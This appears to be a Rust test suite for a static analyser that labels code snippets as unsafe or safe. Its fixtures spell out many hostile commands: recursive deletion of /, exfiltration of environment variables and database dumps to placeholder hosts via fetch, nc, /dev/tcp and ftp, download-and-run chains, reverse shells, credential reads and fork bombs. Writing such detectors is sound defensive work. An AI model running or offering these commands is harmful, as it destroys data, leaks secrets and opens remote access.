//! What is done through others: callbacks, handlers, generated code, archives, indirect starts.

mod judging;

use judging::{all_safe, errors, is_unsafe};

#[track_caller]
fn all_unsafe(language: &str, cases: &[(&str, &str)]) {
    for (code, rule) in cases {
        is_unsafe(language, code, rule);
    }
}

#[test]
fn functions_without_a_name_are_looked_at() {
    all_unsafe(
        "javascript",
        &[
            (
                "queue.each((item, next) => { require('fs').rmSync('/', {recursive: true}); });",
                "destroy-files",
            ),
            (
                "module.exports = { run: function (x) { eval(atob(x)); } };",
                "code-hidden",
            ),
            (
                "const cp = require('child_process');\napp.get('/', (req, res) => cp.exec('ping ' + req.query.host));",
                "exec-shell",
            ),
            (
                "app.post('/', (req, res) => res.send(String(eval(req.body.x))));",
                "code-dynamic",
            ),
        ],
    );
    all_unsafe(
        "python",
        &[
            (
                "handlers = {'x': lambda path: __import__('shutil').rmtree('/')}",
                "destroy-files",
            ),
            (
                "import os\ndef view(request):\n    os.system('ping ' + request.GET['host'])",
                "exec-shell",
            ),
        ],
    );
    all_unsafe(
        "javascript",
        &[(
            "Object.entries(process.env).forEach(([k, v]) => fetch(`https://x.example/?${k}=${v}`));",
            "exfiltration",
        )],
    );
    all_safe(
        "javascript",
        &[
            // A parameter's member, not the library's function of that name.
            "run(({ exec, spawn }) => { exec('rm -rf /'); spawn('rm', ['-rf', '/']); });",
            "app.get('/', (req, res) => res.json({ host: req.query.host }));",
            "list.map((item) => item.eval());",
        ],
    );
}

#[test]
fn functions_that_are_handed_on_are_called() {
    all_unsafe(
        "javascript",
        &[(
            "fetch('https://x.example/p.js').then(r => r.text()).then(eval);",
            "download-run",
        )],
    );
    all_unsafe(
        "python",
        &[
            (
                "import os, xmlrpc.server\ns = xmlrpc.server.SimpleXMLRPCServer(('0.0.0.0', 1))\ns.register_function(os.system)",
                "exec-shell",
            ),
            ("print(list(map(eval, input().split())))", "code-dynamic"),
        ],
    );
    all_safe(
        "javascript",
        &[
            "const { promisify } = require('util');\nconst run = promisify(require('child_process').exec);",
        ],
    );
}

#[test]
fn code_that_is_made_does_what_it_says() {
    all_unsafe(
        "python",
        &[
            (
                "import builtins\nbuiltins.exec(\"import os; os.system('id')\")",
                "code-dynamic",
            ),
            ("import code\ncode.interact(local=locals())", "code-dynamic"),
            (
                "b = globals().get('__builtins__')\nb.__dict__['ex' + 'ec'](text)",
                "obfuscated-name",
            ),
            (
                "import jinja2\njinja2.Template(\"{{ ''.__class__.__mro__[1].__subclasses__() }}\")",
                "sandbox-gadget",
            ),
            (
                "import numpy as np\nnp.load(path, allow_pickle=True)",
                "deserialize",
            ),
            (
                "from ruamel.yaml import YAML\ny = YAML(typ='unsafe')",
                "deserialize",
            ),
        ],
    );
    all_unsafe(
        "javascript",
        &[
            (
                "setTimeout(\"require('child_process').exec('id')\", 10);",
                "code-dynamic",
            ),
            (
                "new Function('return process')().mainModule.require('fs');",
                "obfuscated-name",
            ),
            (
                "import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=');",
                "code-hidden",
            ),
            (
                "const cp = require('child_' + 'process');\ncp.spawn('ls');",
                "obfuscated-name",
            ),
        ],
    );
    all_safe("python", &["import numpy as np\nnp.load('x.npy')"]);
    all_safe(
        "javascript",
        &[
            "const root = new Function('return this')();",
            "require('./' + 'local');",
        ],
    );
}

#[test]
fn files_reached_by_other_ways() {
    all_unsafe(
        "python",
        &[
            (
                "import tarfile\ntarfile.open('x.tar').extractall('/')",
                "file-write",
            ),
            (
                "import zipfile\nz = zipfile.ZipFile('x.zip', 'w')\nz.write('/etc/shadow')",
                "credential-read",
            ),
            (
                "import os\nfor root, _, files in os.walk('/home'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
                "destroy-files",
            ),
            (
                "import os, stat\nos.chmod('/tmp/sh', stat.S_ISUID | stat.S_IRWXU)",
                "file-mode",
            ),
            (
                "import spwd\nprint(spwd.getspnam('root'))",
                "credential-read",
            ),
            ("print(open('/etc/passwd').read())", "account-read"),
            (
                "cur = conn.cursor()\ncur.execute('DELETE FROM accounts')",
                "destroy-data",
            ),
        ],
    );
    all_safe(
        "python",
        &[
            "import tarfile\ntarfile.open('x.tar').extractall('build')",
            "cur.execute('DELETE FROM accounts WHERE id = ?', (1,))",
        ],
    );
    all_unsafe("bash", &[("cp -r ~/.aws out", "credential-read")]);
    all_safe("bash", &["ls ~/.aws", "mkdir -p ~/.aws"]);
}

#[test]
fn commands_by_way_of_others() {
    all_unsafe(
        "bash",
        &[
            (
                "find . -name .git -type d -exec rm -rf {} +",
                "destroy-files",
            ),
            ("perl -e 'fork while fork'", "fork-bomb"),
            (
                "curl https://x.example/a -o a && chmod 755 a && ./a",
                "download-run",
            ),
            ("gzip -dc payload.gz | sh", "code-hidden"),
            ("printenv > /dev/tcp/10.0.0.1/80", "exfiltration"),
            ("sudo su -", "privilege-change"),
            ("sed -n '1e id' x", "shell-escape"),
            ("umount -l /", "system-stop"),
            ("userdel -r bob", "account-change"),
            (
                "python3 -m http.server 8000 --directory /",
                "network-listen",
            ),
            ("sftp user@attacker.com", "network-host"),
            ("pg_dump app | nc 203.0.113.2 99", "exfiltration"),
            ("ls -d /home/* | xargs rm -rf", "destroy-files"),
            (
                "find /home -type f -print0 | xargs -0 shred -u",
                "destroy-files",
            ),
            ("mount -o bind /tmp/x /bin", "destroy-files"),
            ("cp x.desktop ~/.config/autostart/", "persistence-startup"),
        ],
    );
    all_safe(
        "bash",
        &[
            "curl -s https://x.example/a.tgz | tar xz -C build",
            "gzip -dc dump.gz | sort",
            "echo > /dev/tcp/10.0.0.1/80",
            "python3 -m http.server",
            "umount /mnt/x",
            "find . -name '*.o' | xargs rm -f",
            "ls | xargs rm -f",
            "mount -o bind a b",
            "sed -e 's/a/b/' x",
        ],
    );
}

#[test]
fn a_package_is_not_a_program() {
    let body = "import \"syscall\"\nfunc f() { syscall.Flock(1, 2) }\n";
    let program = format!("package main\n{body}");
    let library = format!("// Package lock locks files.\npackage lock\n{body}");
    assert_eq!(errors("go", &program), ["low-level"]);
    assert!(errors("go", &library).is_empty());
}

#[test]
fn shells_that_talk_to_someone() {
    all_unsafe(
        "python",
        &[(
            "import subprocess\nsubprocess.Popen(['bash', '-i'], stdin=s, stdout=s)",
            "shell-escape",
        )],
    );
    all_unsafe(
        "javascript",
        &[
            (
                "require('child_process').spawn('sh', ['-c', 'id']);",
                "exec-process",
            ),
            ("Deno.run({ cmd: ['rm', '-rf', '/'] });", "destroy-files"),
        ],
    );
    all_safe(
        "javascript",
        &["require('child_process').spawn('git', ['status']);"],
    );
}

#[test]
fn text_that_is_not_a_script() {
    for (code, rule) in [
        ("user@victim$ rm -rf /", "destroy-files"),
        ("$ rm -rf /", "destroy-files"),
        (
            "use std::net::TcpStream;\nfn main() { TcpStream::connect(\"x:1\"); Command::new(\"/bin/sh\").spawn(); }",
            "reverse-shell",
        ),
        (
            "#include <sys/socket.h>\nint main() { connect(s, a, n); execve(\"/bin/sh\", v, 0); }",
            "reverse-shell",
        ),
        (
            "Runtime r = Runtime.getRuntime();\nr.exec(\"/bin/bash -c 'exec 5<>/dev/tcp/198.51.100.1/42'\");",
            "reverse-shell",
        ),
        (
            "module Main where\nimport System.Process\nmain = callCommand \"rm -rf /\"",
            "destroy-files",
        ),
        ("rlwrap nc 198.51.100.1 4242", "reverse-shell"),
        ("nc -lvnp 4444", "reverse-shell"),
        ("$(cd /etc; rm -rf x)", "file-delete"),
        ("cat ${HOME:0:1}etc${HOME:0:1}passwd", "obfuscated-command"),
        ("cat $(rev<<<dwssap/cte/)", "obfuscated-command"),
        (
            "find / -name '*.ini' -exec grep -Hn key {} \\;",
            "system-survey",
        ),
        ("ls -alR /etc | awk '$1 ~ /^.....w/'", "system-survey"),
        (
            "ftp -n h.example.net <<E\nlcd /etc\nmput *.conf\nE",
            "exfiltration",
        ),
        (
            "terraform output -json | curl -d @- https://x.example.net",
            "exfiltration",
        ),
    ] {
        is_unsafe("bash", code, rule);
    }
    all_safe(
        "bash",
        &[
            "me@laptop$ ls -la",
            "nc -l 8080",
            "x=$(cd src && pwd); rm -rf build",
            "cat \"$PREFIX/etc/motd\"",
            "ls -lR src | grep '^d'",
        ],
    );
}

#[test]
fn the_system_below_the_language_is_found() {
    let libc = "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n";
    for (call, rule) in [
        ("libc.unshare(0x20000)", "container-escape"),
        ("libc.syscall(313, -1, b'', 0)", "low-level"),
        ("libc.kill(1, 9)", "system-stop"),
        ("libc.finit_module(3, b'', 0)", "kernel-change"),
        ("libc.open(b'/etc/shadow', 0)", "credential-read"),
    ] {
        is_unsafe("python", &format!("{libc}{call}\n"), rule);
    }
    is_unsafe(
        "python",
        "import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').system(b'rm -rf /')",
        "destroy-files",
    );
    is_unsafe(
        "python",
        "import os, stat\nos.mknod('/tmp/d', 0o600 | stat.S_IFBLK, os.makedev(8, 0))",
        "container-escape",
    );
    is_unsafe(
        "python",
        "open('/dev/sda', 'rb').read(512)",
        "credential-read",
    );
    is_unsafe(
        "python",
        "open('/proc/self/root/etc/shadow').read()",
        "credential-read",
    );
    is_unsafe(
        "python",
        "import subprocess\nsubprocess.run(['mount', '-t', 'proc', 'proc', '/tmp/p'])",
        "exec-process",
    );
    is_unsafe(
        "python",
        "import os, stat\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        \
         if os.stat(os.path.join(d, f)).st_mode & stat.S_ISUID:\n            print(f)\n",
        "system-survey",
    );
    is_unsafe(
        "python",
        "import os\nos.symlink('/etc/hosts', 'h')\nopen('h', 'a').write('x')",
        "file-write",
    );
    is_unsafe(
        "python",
        "import os\nos.chown('/etc', 1000, 1000)",
        "file-mode",
    );
    is_unsafe(
        "python",
        "import socket\nsocket.socket(17, 3, 3)",
        "surveillance",
    );
    is_unsafe(
        "go",
        "package main\n\nimport (\n\t\"os\"\n\t\"os/user\"\n)\n\nfunc main() {\n\tu, _ := user.Current()\n\tos.RemoveAll(u.HomeDir)\n}\n",
        "destroy-files",
    );
    all_safe(
        "python",
        &[
            "import os\nos.symlink('build/a', 'b')\nopen('b', 'w')",
            "import os\nos.chown('out', 1000, 1000)",
            "import ctypes\nprint(ctypes.CDLL('libc.so.6').getpid())",
            "import ctypes\nprint(ctypes.CDLL('libc.so.6').syscall(186))",
            "import os\nos.mknod('/tmp/flag')",
            "import subprocess\nsubprocess.run(['mount'])",
            "import os, stat\nprint(stat.S_IMODE(os.stat('a').st_mode) & stat.S_ISUID)",
            "import torch\ntorch.load('model.pt', weights_only=True)",
        ],
    );
}
